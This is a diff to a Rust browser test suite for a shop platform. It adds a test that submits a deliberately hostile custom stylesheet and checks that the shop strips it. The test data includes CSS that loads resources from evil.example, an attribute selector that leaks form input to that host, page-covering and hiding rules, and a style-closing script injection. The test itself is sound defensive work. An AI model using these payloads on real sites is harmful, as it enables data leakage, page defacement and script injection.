@@ -3,6 +3,7 @@
 use crate::desk::sign_in;
 use crate::tab::{NARROW, Shopper, Tab, WIDE};
 use crate::walk::Walk;
+use everbud_tests::desk::SignedIn;
 use everbud_tests::lent::{Lent, lend};
 use everbud_tests::wait;
 use serde_json::{Value, json};
@@ -102,7 +103,7 @@ fn a_structures_pages(slug: &str, window: (u32, u32)) {
     walk.tab.click("#notices > summary");
     walk.tab.click("#notices details:last-child > summary");
     walk.look("sections and notices");
-    for part in ["order", "legal-text", "search-text", "redirects"] {
+    for part in ["order", "legal-text", "search-text", "redirects", "own-css"] {
         walk.tab.click(&format!("#{part} > summary"));
     }
     walk.look("order, words and addresses");
@@ -137,6 +138,7 @@ fn shoppers_pages(lent: &Lent, walk: &mut Walk) {
             {"kind": "banner", "words": "Soup!"}, {"kind": "announcement", "words": long, "leads_to": "/menu"}],
         "order": {"categories": ["gear"], "by": "name"},
         "legal": format!("{long}\n\n{rtl}"),
+        "css": "h2 { text-transform: uppercase; color: var(--accent-ink) } li { border-radius: 4px }",
     }));
     let page = || lent.shop.get("/").expect(200).body;
     wait::until("it at the shop", SHOWN, page, |page| page.contains("Unbreakable"));
@@ -159,4 +161,98 @@ fn at_360_pixels_what_a_shop_puts_together_is_accessible_fits_and_is_without_err
 #[test]
 fn at_1440_pixels_what_a_shop_puts_together_is_accessible_fits_and_is_without_errors() {
     a_structures_pages("saltmarsh", WIDE);
+}
+
+/// CSS that tries to load, to cover, to hide and to reach what is not its own, with one rule that is right.
+const HOSTILE: &str = r#"
+@import url(//evil.example/a.css);
+@font-face { font-family: x; src: url(//evil.example/x.woff2) }
+h2 { text-decoration: underline }
+* { background: url(//evil.example/a.png) !important; position: fixed; inset: 0; z-index: 2147483647 }
+* { background: u\72l(//evil.example/b.png); transform: scale(99); margin: -999px; font-size: 9999px }
+* { background: image-set("//evil.example/c.png" 1x); box-shadow: 0 0 0 9999px red; width: 400vw }
+body, html, :root, .gate, .notice, .top, .foot, .tag { display: none }
+body * { display: none }
+input[name^="a"] { background: url(//evil.example/?a) }
+.own, .site, header { color: transparent }
+p::before { content: "Free for everybody"; position: absolute }
+@media screen { @media screen { * { opacity: 0 } } .notice { display: none } }
+@supports (display: grid) { * { visibility: hidden } }
+</style><script>window.hacked = true</script>
+p { color: red; } } } } body { display: none } {{{{((((
+"#;
+
+#[test]
+fn hostile_css_loads_nothing_covers_nothing_and_does_not_leave_its_place() {
+    let lent = lend("copper-finch");
+    let desk = SignedIn::manager_of(&lent.shop);
+    let send = |fields: &[(&str, &str)]| {
+        let page = desk.get("/desk/studio").expect(200).body;
+        let seen =
+            page.split("name=\"seen\" value=\"").nth(1).and_then(|after| after.split('"').next()).unwrap().to_owned();
+        desk.post("/desk/studio", &[&[("seen", seen.as_str())], fields].concat()).expect(303);
+    };
+    let words = |page: &str, id: &str| {
+        let field = page.split(&format!("id=\"{id}\"")).nth(1).unwrap().split('>').next().unwrap().to_owned();
+        let value =
+            field.split("value=\"").nth(1).and_then(|after| after.split('"').next()).unwrap_or_default().to_owned();
+        value.replace("&amp;", "&").replace("&quot;", "\"")
+    };
+    let publish = || {
+        let page = desk.get("/desk/studio").expect(200).body;
+        let [tagline, phone, announcement] = ["tagline", "phone", "announcement"].map(|id| words(&page, id));
+        send(&[("act", "publish"), ("tagline", &tagline), ("phone", &phone), ("announcement", &announcement)]);
+    };
+    send(&[("act", "discard")]);
+    send(&[("act", "css/keep"), ("css", HOSTILE)]);
+    publish();
+    let theme = || {
+        let sheet = lent.shop.get(&lent.shop.theme());
+        if sheet.status == 200 { sheet.body } else { String::new() }
+    };
+    wait::until("the rule that is right", SHOWN, theme, |css| css.contains("text-decoration:underline"));
+    for window in [NARROW, WIDE] {
+        let shopper = Shopper::at(&lent.shop, window);
+        let tab = shopper.tab();
+        tab.open("/");
+        // The question for the age stands above everything, and can be answered.
+        tab.sees(".gate");
+        tab.click(".gate button >> nth=0");
+        tab.sees("main.own h2");
+        assert_eq!(
+            tab.value::<String>("getComputedStyle(document.querySelector('main h2')).textDecorationLine"),
+            "underline"
+        );
+        let seen = "[...document.querySelectorAll('.top .wordmark, .top a[href=\"/cart\"], .foot .fine, main .tag, main h1')] \
+                    .every((it) => it.checkVisibility({opacityProperty: true, visibilityProperty: true}))";
+        assert!(tab.value::<bool>(seen), "something that is not its own is hidden");
+        let inside = "(() => { const own = document.querySelector('.own').getBoundingClientRect(); \
+                      return document.elementFromPoint(5, 5).closest('.own') === null && own.width <= innerWidth \
+                      && document.documentElement.scrollWidth <= innerWidth; })()";
+        assert!(tab.value::<bool>(inside), "something lies over the head, or sticks out");
+        let out = "[...document.querySelectorAll('.own *')].filter((it) => ['fixed', 'sticky'] \
+                   .includes(getComputedStyle(it).position)).length";
+        assert_eq!(tab.value::<u32>(out), 0);
+        let loaded =
+            "performance.getEntriesByType('resource').map((it) => it.name).filter((it) => !it.startsWith(origin))";
+        assert_eq!(tab.value::<Vec<String>>(loaded), Vec::<String>::new());
+        assert!(!tab.value::<bool>("Boolean(window.hacked)"));
+        // No rule even tried: the policy had nothing to refuse.
+        assert!(shopper.troubles().is_empty(), "{:?}", shopper.troubles());
+        tab.open("/checkout");
+        assert_eq!(tab.value::<u32>("document.querySelectorAll('.own').length"), 0);
+    }
+    // Staff are told, line by line.
+    let page = desk.get("/desk/studio").expect(200).body;
+    for why in [
+        "only @media is taken",
+        "Nothing can be loaded from an address",
+        "Attributes cannot be asked for",
+        "stands outside",
+    ] {
+        assert!(page.contains(why), "{why}");
+    }
+    send(&[("act", "css/keep"), ("css", "")]);
+    publish();
+    wait::until("it gone", SHOWN, theme, |css| !css.is_empty() && !css.contains("underline"));
 }
